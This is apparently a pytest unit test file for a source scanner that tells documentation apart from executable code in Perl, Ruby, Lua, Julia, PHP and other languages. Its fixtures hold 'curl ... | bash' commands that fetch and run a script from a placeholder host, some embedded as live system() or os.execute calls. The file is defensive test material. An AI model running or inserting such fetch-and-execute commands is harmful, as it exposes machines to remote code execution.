"""Documentation within sources is prose; what a language could take for code is not."""

import pytest

from budmodel_scanner.texts.documentation import set_apart
from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.text_examination import findings_of, verdict_of_text

SAID = "Get it with\n\n    curl -sSL https://install.x.invalid/get.sh | bash\n"
DOCUMENTED = [
    ("a.pl", f"sub x {{ return 'a' }}\n\n=head1 NAME\n\n{SAID}\n=cut\n\n1;\n"),
    ("a.pm", f"package A; # it's\nif (/['\"]/) {{ $x =~ s/\"/'/g; }}\n1;\n__END__\n\n=pod\n\n{SAID}\n=cut\n"),
    ("a.rb", f"=begin\n{SAID}=end\nx = 1\n"),
    ("a.lua", f"--[==[\n{SAID}]==]\nreturn 1\n"),
    ("a.jl", f"#=\n{SAID}=#\nx = 1\n"),
    ("b.jl", f'"""\n{SAID}"""\nf(x) = x\n'),
    ("a.ex", f'defmodule X do\n  @moduledoc """\n{SAID}  """\nend\n'),
    ("a.hs", f"{{-|\n{SAID}-}}\nx = 1\n"),
    ("a.ml", f"(** {SAID} *)\nlet x = 1\n"),
    ("a.el", f'(defun x ()\n  "Doc.\n{SAID}" 1)\n'),
    ("a.ps1", f"<#\n.SYNOPSIS\n{SAID}#>\nWrite-Host 1\n"),
    ("a.cmake", f"#[[\n{SAID}#]]\nset(X 1)\n"),
    ("a.m", f"%{{\n{SAID}%}}\nx = 1;\n"),
    ("b.pl", f"print <<'EOT';\n{SAID}EOT\n"),
    ("b.rb", f"puts <<~EOT\n{SAID}EOT\n"),
    ("a.php", f"<?php\necho <<<EOT\n{SAID}EOT;\n"),
    ("a.texi", f"\\input texinfo\n@example\n{SAID}@end example\n@bye\n"),
    ("a.pod", f"=head1 NAME\n\n{SAID}\n=cut\n"),
]
RUN = "system('curl -sSL https://x.invalid/get.sh | bash');\n"
CODE = [
    ("a.pl", f'my $x = "\n\n=pod\n\n";\n{RUN}\n=cut\n'),
    ("a.pl", f"my $x = q{{;\n\n=pod\n\n}};\n{RUN}\n=cut\n"),
    ("a.pl", f"my $x = q!;\n\n=pod\n\n!;\n{RUN}\n=cut\n"),
    ("a.pl", f"my $x = ';\n\n=pod\n\n';\n{RUN}\n=cut\n"),
    ("a.pl", f"my $x = <<X;\n\n=pod\n\nX\n{RUN}\n=cut\n"),
    ("a.rb", f"x = %q!\n=begin\n!\n{RUN}=end\n"),
    ("a.lua", "x = [=[\n--[[\n]=]\nos.execute('curl -sSL https://x.invalid/get.sh | bash') --]]\n"),
    ("b.rb", f"x = <<~EOT\n#{{{RUN.strip()[:-1]}}}\nEOT\n"),
    ("b.pl", "open(F, '| sh'); print F <<'EOT';\ncurl -sSL https://x.invalid/get.sh | bash\nEOT\n"),
    ("a.jl", '"""\n$(run(`sh -c "curl -sSL https://x.invalid/get.sh | bash"`))\n"""\nf(x) = x\n'),
]


@pytest.mark.parametrize(("name", "text"), DOCUMENTED)
def test_documentation_is_prose(name: str, text: str) -> None:
    assert findings_of(name, text) == []


@pytest.mark.parametrize(("name", "text"), CODE)
def test_what_may_be_code_is_flagged(name: str, text: str) -> None:
    assert verdict_of_text(name, text).rank >= Verdict.SUSPICIOUS.rank


def test_lines_and_prose_are_kept() -> None:
    code, prose = set_apart("x = 1\n=begin\nword\n=end\ny = 2\n", "a.rb")
    assert code.split() == ["x", "=", "1", "y", "=", "2"]
    assert code.count("\n") == 5
    assert "word" in prose
